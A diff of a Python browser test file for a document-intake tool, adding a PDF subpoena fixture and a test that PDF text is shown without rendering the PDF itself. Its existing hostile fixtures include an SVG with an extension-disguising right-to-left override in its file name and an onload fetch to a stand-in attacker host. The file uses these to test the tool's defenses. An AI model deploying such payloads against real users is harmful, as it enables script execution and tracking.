@@ -25,6 +25,7 @@ axe_playwright = pytest.importorskip("axe_playwright_python.sync_playwright", re
 pytestmark = [pytest.mark.browser, pytest.mark.slow]
 
 DEMAND = Path(__file__).resolve().parents[2] / "src/dueprocess/cli/story/demands/02-no-provision.eml"
+PDF = Path(__file__).resolve().parents[1] / "golden/demands/us-pdf-subpoena.pdf"
 HOSTILE = {
     "annex\u202egpj.svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload=\"fetch('https://evil.example/?svg')\">"
     b"<image href='https://evil.example/pixel.png'/></svg>",
@@ -104,7 +105,12 @@ def taken(practice: Practice, tmp_path_factory: pytest.TempPathFactory) -> dict[
     """Cases by file, taken in while the desk is served: a demand of the story, and hostile ones."""
     folder = tmp_path_factory.mktemp("arrived")
     found = {}
-    for name, data in {DEMAND.name: DEMAND.read_bytes(), **HOSTILE, "scan.png": POLYGLOT}.items():
+    for name, data in {
+        DEMAND.name: DEMAND.read_bytes(),
+        **HOSTILE,
+        "scan.png": POLYGLOT,
+        PDF.name: PDF.read_bytes(),
+    }.items():
         (folder / name).write_bytes(data)
     environ = {**os.environ, "DUEPROCESS_HOME": str(practice.home), "HOME": str(practice.home.parent)}
     command = Path(sys.executable).with_name("dueprocess")
@@ -277,6 +283,17 @@ def test_a_picture_is_drawn_anew(vault: Vault, taken: dict[str, str]) -> None:
     vault.go(f"/case/{taken['scan.png']}", ".face")
     frame = vault.frame()
     frame.wait_for_selector("canvas")
+
+
+def test_a_pdf_is_not_drawn_but_its_text_stands_beside_it(vault: Vault, taken: dict[str, str]) -> None:
+    vault.go(f"/case/{taken[PDF.name]}", ".face")
+    frame = vault.frame()
+    frame.wait_for_selector(".line")
+    assert "subpoena" in frame.inner_text("body").lower()
+    vault.tab.locator("button:text-is('Show where')").first.press("Enter")
+    frame.wait_for_selector("mark")
+    vault.tab.click("button:text-is('Original')")
+    frame.wait_for_selector("text=It is not shown here")
 
 
 def test_the_desks_page_finds_the_same_window_again(practice: Practice, vault: Vault) -> None:
